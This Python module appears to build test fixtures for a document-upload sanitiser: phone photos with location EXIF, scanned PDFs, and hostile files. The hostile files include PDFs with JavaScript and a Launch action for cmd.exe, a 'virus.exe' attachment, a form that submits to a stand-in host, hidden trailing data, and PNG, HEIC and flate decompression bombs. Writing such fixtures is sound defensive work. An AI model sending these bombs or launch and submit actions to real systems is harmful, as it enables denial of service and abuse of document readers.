"""Files as residents and attackers make them; every one is made here, none is kept."""

import base64
import io
import random
import zlib

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageDraw, ImageFilter, ImageFont

pillow_heif.register_heif_opener()

BANDUNG = ((6.0, 55.0, 3.6), (107.0, 36.0, 0.0))


def camera_photo(width: int = 4032, height: int = 3024, orientation: int = 6) -> bytes:
    """A JPEG as a phone saves it: lying on its side, with the place in its EXIF."""
    photo = _scenery(width, height)
    notes = Image.Exif()
    notes[0x0112] = orientation
    notes[0x010F], notes[0x0110] = "Kamera", "Model X"
    notes.get_ifd(0x8825).update({1: "S", 2: BANDUNG[0], 3: "E", 4: BANDUNG[1]})
    return _saved(photo, "JPEG", quality=90, exif=notes)


def scan_pdf(pages: int = 3, *, page_size: tuple[int, int] = (1240, 1754)) -> bytes:
    """A PDF as scanner apps make it: one JPEG on each page, with the phone's EXIF inside."""
    pdf = Pdf.new()
    for number in range(pages):
        add_scanned_page(pdf, camera_photo(*page_size, orientation=1), page_size, number)
    return saved_pdf(pdf)


def packed_scan_pdf() -> bytes:
    """As some printers' drivers write it: the JPEG is packed once more."""
    pdf = Pdf.open(io.BytesIO(scan_pdf(1, page_size=(400, 300))))
    picture = pdf.pages[0].obj.Resources.XObject.Im0
    picture.write(
        zlib.compress(picture.read_raw_bytes()), filter=Array([Name.FlateDecode, Name.DCTDecode])
    )
    return saved_pdf(pdf, compress_streams=False)


def ascii_scan_pdf() -> bytes:
    """As what once went by mail: the JPEG is written in letters."""
    pdf = Pdf.open(io.BytesIO(scan_pdf(1, page_size=(400, 300))))
    picture = pdf.pages[0].obj.Resources.XObject.Im0
    letters = base64.a85encode(picture.read_raw_bytes()) + b"~>"
    picture.write(letters, filter=Array([Name.ASCII85Decode, Name.DCTDecode]))
    return saved_pdf(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def scan_of(jpeg: bytes) -> bytes:
    """One page of a JPEG, whatever stands in it."""
    pdf = Pdf.new()
    add_scanned_page(pdf, jpeg, (400, 300))
    return saved_pdf(pdf)


def pdf_with_a_rest(hidden: bytes, *, damaged: bool = False) -> bytes:
    """Something is kept behind the end of what describes the page, whose checksum may be wrong."""
    pdf = Pdf.open(io.BytesIO(scan_of(camera_photo(400, 300))))
    page = pdf.pages[0].obj
    drawn = zlib.compress(page.Contents.read_bytes())
    if damaged:
        drawn = drawn[:-1] + bytes([drawn[-1] ^ 1])
    page.Contents = pdf.make_indirect(Stream(pdf, drawn + hidden, Filter=Name.FlateDecode))
    return saved_pdf(
        pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
    )


def add_scanned_page(
    pdf: Pdf,
    photo: bytes,
    size: tuple[int, int],
    number: int = 0,
    packed: Name = Name.DCTDecode,
) -> pikepdf.Page:
    width, height = size
    picture = Stream(
        pdf,
        photo,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=width,
        Height=height,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=packed,
    )
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[-1]
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=pdf.make_indirect(picture)))
    page.obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q %% %d" % number)
    return page


def saved_pdf(pdf: Pdf, **options: object) -> bytes:
    held = io.BytesIO()
    pdf.save(held, **options)
    return held.getvalue()


def encrypted_pdf() -> bytes:
    pdf = Pdf.open(io.BytesIO(scan_pdf(1, page_size=(100, 100))))
    return saved_pdf(pdf, encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))


def owner_locked_pdf() -> bytes:
    """Opens without a password, yet is encrypted."""
    pdf = Pdf.open(io.BytesIO(scan_pdf(1, page_size=(100, 100))))
    return saved_pdf(pdf, encryption=pikepdf.Encryption(user="", owner="rahasia"))


def acting_pdf(part: str) -> bytes:
    """A scan that does something: `part` names what."""
    pdf = Pdf.open(io.BytesIO(scan_pdf(1, page_size=(100, 100))))
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    page = pdf.pages[0].obj
    if part == "open":
        pdf.Root.OpenAction = script
    elif part == "names":
        pdf.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(script)]))
        )
    elif part == "page":
        page.AA = Dictionary(O=script)
    elif part == "launch":
        action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
        page.Annots = Array([_annotation(Subtype=Name.Link, A=action)])
    elif part == "attachment":
        pdf.attachments["virus.exe"] = b"MZ"
    elif part == "submit":
        action = Dictionary(S=Name.SubmitForm, F=String("https://jahat.example"))
        page.Annots = Array([_annotation(Subtype=Name.Link, A=action)])
    return saved_pdf(pdf)


def form_pdf() -> bytes:
    """A form filled in by hand on a computer, with a link: harmless, once it is flat."""
    pdf = Pdf.open(io.BytesIO(scan_pdf(1, page_size=(100, 100))))
    page = pdf.pages[0].obj
    drawn = Stream(pdf, b"0 0 1 rg 0 0 200 50 re f")
    drawn.stream_dict.update(
        Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 200, 50]))
    )
    field = _annotation(Subtype=Name.Widget, FT=Name.Tx, T=String("nama"), V=String("Siti"))
    field.AP, field.F = Dictionary(N=pdf.make_indirect(drawn)), 4
    field.Rect = Array([100, 700, 300, 750])
    link = _annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://x.example")))
    widget = pdf.make_indirect(field)
    page.Annots = Array([widget, pdf.make_indirect(link)])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return saved_pdf(pdf)


def flate_bomb_pdf(unpacked: int = 200_000_000) -> bytes:
    """A few kilobytes whose page description is `unpacked` bytes long."""
    pdf = Pdf.new()
    page = add_scanned_page(pdf, camera_photo(50, 50), (50, 50))
    machine = zlib.compressobj(9)
    piece = b" " * 1_000_000
    packed = b"".join(machine.compress(piece) for _ in range(unpacked // len(piece)))
    bomb = Stream(pdf, packed + machine.flush(), Filter=Name.FlateDecode)
    page.obj.Contents = pdf.make_indirect(bomb)
    return saved_pdf(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def double_bomb_pdf() -> bytes:
    """Packed twice: a kilobyte that would be 500 MB."""
    pdf = Pdf.new()
    page = add_scanned_page(pdf, camera_photo(50, 50), (50, 50))
    machine = zlib.compressobj(9)
    once = b"".join(machine.compress(b" " * 1_000_000) for _ in range(500)) + machine.flush()
    bomb = Stream(pdf, b"")
    bomb.write(zlib.compress(once, 9), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    page.obj.Contents = pdf.make_indirect(bomb)
    return saved_pdf(pdf, compress_streams=False)


def png_bomb(side: int = 30_000) -> bytes:
    """Some kilobytes of PNG that would be `side` x `side` pixels."""
    row = b"\0" * (1 + side // 8)
    machine = zlib.compressobj(9)
    packed = b"".join(machine.compress(row * 100) for _ in range(side // 100)) + machine.flush()
    head = side.to_bytes(4) + side.to_bytes(4) + bytes([1, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(*part) for part in ((b"IHDR", head), (b"IDAT", packed), (b"IEND", b""))
    )


def slow_pdf() -> bytes:
    """Draws the same large thing so often that nobody waits for it."""
    pdf = Pdf.new()
    page = add_scanned_page(pdf, camera_photo(2000, 2000), (2000, 2000))
    page.obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q\n" * 200_000)
    return saved_pdf(pdf)


def png(mode: str, size: tuple[int, int] = (400, 300)) -> bytes:
    return _saved(Image.new(mode, size), "PNG")


def webp() -> bytes:
    return _saved(_scenery(400, 300), "WEBP")


def printed_sheet(*, blur: int = 0, light: float = 1.0) -> bytes:
    """A photo of a sheet full of small print, on a table."""
    photo = Image.new("RGB", (2200, 1650), (120, 95, 70))
    pen, words = ImageDraw.Draw(photo), ImageFont.load_default(size=22)
    pen.rectangle((100, 60, 2100, 1590), fill=(238, 236, 228))
    for y in range(100, 1540, 40):
        pen.text((130, y), "NIK 3277014507910003 SITI AMINAH BANDUNG  " * 4, (30, 30, 36), words)
    if blur:
        photo = photo.filter(ImageFilter.GaussianBlur(blur))
    return _saved(photo.point(lambda value: value * light), "JPEG", quality=90)


def heic(width: int = 400, height: int = 300) -> bytes:
    """A photo as an iPhone saves it: turned by a note, with the place in its EXIF."""
    notes = Image.Exif()
    notes[0x0112], notes[0x010F] = 6, "Kamera"
    notes.get_ifd(0x8825).update({1: "S", 2: BANDUNG[0], 3: "E", 4: BANDUNG[1]})
    return _saved(_scenery(width, height), "HEIF", quality=60, exif=notes.tobytes())


def heic_bomb(side: int = 30_000) -> bytes:
    """A small HEIC that says of itself that it is `side` x `side` pixels."""
    size = b"ispe\0\0\0\0"
    true, claimed = ((n.to_bytes(4) + n.to_bytes(4)) for n in (64, side))
    photo = _saved(_scenery(64, 64), "HEIF")
    assert size + true in photo
    return photo.replace(size + true, size + claimed)


def avif() -> bytes:
    return _saved(_scenery(400, 300), "AVIF")


def _scenery(width: int, height: int) -> Image.Image:
    """Not one colour, which would compress to nothing; the upper left is red."""
    small = Image.frombytes("L", (64, 48), random.Random(7).randbytes(64 * 48))
    photo = small.resize((width, height)).convert("RGB")
    ImageDraw.Draw(photo).rectangle((0, 0, width // 4, height // 4), fill=(220, 20, 20))
    return photo


def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    held = io.BytesIO()
    picture.save(held, kind, **options)
    return held.getvalue()


def _annotation(**parts: object) -> Dictionary:
    return Dictionary(Type=Name.Annot, Rect=Array([0, 0, 10, 10]), **parts)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)
